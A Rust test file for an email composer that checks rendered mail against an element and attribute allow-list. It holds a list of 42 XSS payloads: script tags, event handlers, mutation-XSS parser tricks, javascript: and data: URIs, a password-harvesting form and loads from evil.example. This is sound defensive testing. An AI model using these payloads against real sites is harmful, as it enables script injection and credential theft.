//! Attacks on a reader through everything that a mail is made of: every payload in every place where words can stand.
//!
//! The composed mail is read by a tokenizer that follows the HTML standard, as a browser does. Only the elements and
//! attributes that a mail is built of may be in it, whatever the words say.

use html5gum::{Token, Tokenizer};

use super::sample::{desk, reader};
use crate::fill;

/// What attackers write: elements, attributes, addresses, styles, comments, entities and what parsers disagree on.
const PAYLOADS: [&str; 42] = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=alert(1)>",
    "<svg><script href='data:,alert(1)'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src onerror=alert(1)>'>",
    "<table><td><select><math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:text/html,<script>alert(1)</script>'>",
    "<form action='https://evil.example'><input name=password><button>Go</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<style>@import 'https://evil.example/x.css';body{background:url(https://evil.example)}</style>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if mso]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</td></tr></table></body></html><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)`",
    "\" style=\"position:fixed;background:url(https://evil.example)\" x=\"",
    "javascript:alert(1)",
    "java&#10;script:alert(1)",
    "&#x6A;avascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "\u{0}<script>alert(1)</script>",
    "\u{2028}<script>\u{2029}alert(1)</script>",
    "\u{ff1c}script\u{ff1e}alert(1)",
    "{{unsubscribe}}{{#pdf}}<script>{{ first_name | default: \"<script>alert(1)</script>\" }}",
];

/// Where an editor, or somebody who sent one a file, can put words; `@` is the payload.
const PLACES: [&str; 12] = [
    "---\nsubject: s\npreheader: p\n---\n@",
    "---\nsubject: s\npreheader: p\n---\n## @\n",
    "---\nsubject: s\npreheader: p\n---\n[words](@) and [words](<@>)",
    "---\nsubject: s\npreheader: p\n---\n[@](https://example.org)",
    "---\nsubject: s\npreheader: p\n---\n![@](media/tram.png \"@\"){credit=\"@\"}",
    "---\nsubject: s\npreheader: p\n---\n![alt](<@>){.@}",
    "---\nsubject: s\npreheader: p\n---\n> [!facts] @\n> @",
    "---\nsubject: s\npreheader: p\n---\n| @ |\n| --- |\n| @ |",
    "---\nsubject: s\npreheader: p\n---\n```@\n@\n```\n\n`@`",
    "---\nsubject: s\npreheader: p\n---\n```chart\ntitle: x\nalt: @\n---\n@,@\n@,1\n```",
    "---\nsubject: s\npreheader: p\n---\nText[^n].\n\n[^n]: @",
    "---\nsubject: >\n  @\npreheader: >\n  @\n---\nText.",
];

/// What a mail is built of.
const ELEMENTS: &str = "html head title meta style body div table tbody tr td th p h1 h2 h3 h4 a img br hr em strong s code \
                        pre ul ol li sup span";
const ATTRIBUTES: &str = "lang dir xmlns xmlns:v xmlns:o http-equiv content name type media style class id align valign \
                          vertical-align role width height cellpadding cellspacing border bgcolor href target src alt \
                          start scope aria-label aria-roledescription";

fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for Ok(token) in Tokenizer::new(html) {
        let Token::StartTag(tag) = token else { continue };
        let name = String::from_utf8_lossy(&tag.name).into_owned();
        if !ELEMENTS.split_whitespace().any(|known| known == name) {
            faults.push(format!("<{name}>"));
        }
        for (attribute, value) in &tag.attributes {
            let attribute = String::from_utf8_lossy(attribute).into_owned();
            let value = String::from_utf8_lossy(value).into_owned();
            let known = ATTRIBUTES.split_whitespace().any(|known| known == attribute);
            let leads = ["https://", "http://", "mailto:", "cid:", "[unsubscribe_link]", "[preferences_link]"];
            let safe =
                !matches!(attribute.as_str(), "href" | "src") || leads.iter().any(|lead| value.starts_with(lead));
            let refresh = attribute == "http-equiv" && value.eq_ignore_ascii_case("refresh");
            let fetches = attribute == "style" && value.contains("url(");
            if !known || !safe || refresh || fetches {
                faults.push(format!("<{name} {attribute}={value}>"));
            }
        }
    }
    faults
}

#[test]
fn no_payload_lives_in_any_place() {
    let desk = desk();
    for payload in PAYLOADS {
        for place in PLACES {
            let edition = place.replace('@', payload);
            let (mail, _) = desk.mail(&edition);
            assert_eq!(faults(&fill(&mail.html, reader)), [""; 0], "{edition}");
            let subject = fill(&mail.subject, reader);
            assert!(!subject.contains(['\r', '\n', '\0']), "{subject:?}");
        }
    }
}

#[test]
fn a_files_name_is_no_payload_either() {
    let mut desk = desk();
    for payload in PAYLOADS {
        let file = format!("media/{payload}.jpg");
        desk.pictures.insert(file.clone(), crate::PictureSize { width: 900, height: 600 });
        desk.issue.articles[0].front_matter.picture = Some(magazine::Picture { file, alt: payload.to_owned() });
        for delivery in ["embed", "link"] {
            let edition = format!("---\nsubject: s\npictures: {delivery}\n---\n[[audit]]");
            let (mail, _) = desk.mail(&edition);
            assert_eq!(faults(&fill(&mail.html, reader)), [""; 0], "{payload}");
            let used = mail.pictures.iter().find(|used| used.file.contains(payload)).unwrap();
            let plain = |text: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || "-./@".contains(c));
            assert!(plain(&used.cid) && plain(used.on_the_web.as_deref().unwrap_or_default()), "{used:?}");
            assert_eq!(used.on_the_web.is_some(), delivery == "link");
        }
    }
}

#[test]
fn a_chart_is_drawn_of_words_alone() {
    let mut drawn = 0;
    for payload in PAYLOADS {
        let chart =
            format!("```chart\ntype: bar\ntitle: '{payload}'\nalt: a\nunit: '{payload}'\n---\na,b\n{payload},1\n```");
        let (mail, _) = desk().mail(&super::sample::edition(&chart));
        for svg in mail.pictures.iter().filter_map(|used| used.drawing.as_ref()) {
            drawn += 1;
            let tags: Vec<String> = Tokenizer::new(svg)
                .filter_map(|Ok(token)| match token {
                    Token::StartTag(tag) => Some(String::from_utf8_lossy(&tag.name).into_owned()),
                    _ => None,
                })
                .filter(|name| !["svg", "style", "text", "rect"].contains(&name.as_str()))
                .collect();
            assert_eq!(tags, [""; 0], "{svg}");
        }
    }
    assert!(drawn > 20, "{drawn} of them are charts");
}

#[test]
fn a_person_is_no_payload_either() {
    let everything = "Dear {{ first_name | default: \"x\" }} {{ name | default: \"x\" }} {{ city | default: \"x\" }} \
                      [link](https://example.org/?c={{ city | default: \"x\" }}) {{ email }}";
    let (mail, _) = desk().mail(&super::sample::edition(everything));
    for payload in PAYLOADS {
        let html = fill(&mail.html, |field| match field {
            crate::PersonField::UnsubscribeLink | crate::PersonField::PreferencesLink => {
                "https://example.org/u".to_owned()
            }
            _ => payload.to_owned(),
        });
        assert_eq!(faults(&html), [""; 0], "{payload}");
    }
}

#[test]
fn the_watchman_sees_what_he_watches_for() {
    let living = PAYLOADS.iter().filter(|payload| !faults(payload).is_empty()).count();
    assert!(living >= 24, "only {living} of the payloads would be seen if they lived");
}

#[test]
fn ten_thousand_elements_inside_one_another_are_a_mail_all_the_same() {
    for nested in [">".repeat(10_000) + " x", "- ".repeat(10_000) + "x", "*a ".repeat(10_000), "[".repeat(10_000)] {
        let since = std::time::Instant::now();
        let (mail, _) = desk().mail(&super::sample::edition(&nested));
        assert!(since.elapsed() < super::PATIENCE, "{:?}", since.elapsed());
        assert_eq!(faults(&fill(&mail.html, reader)), [""; 0]);
    }
}
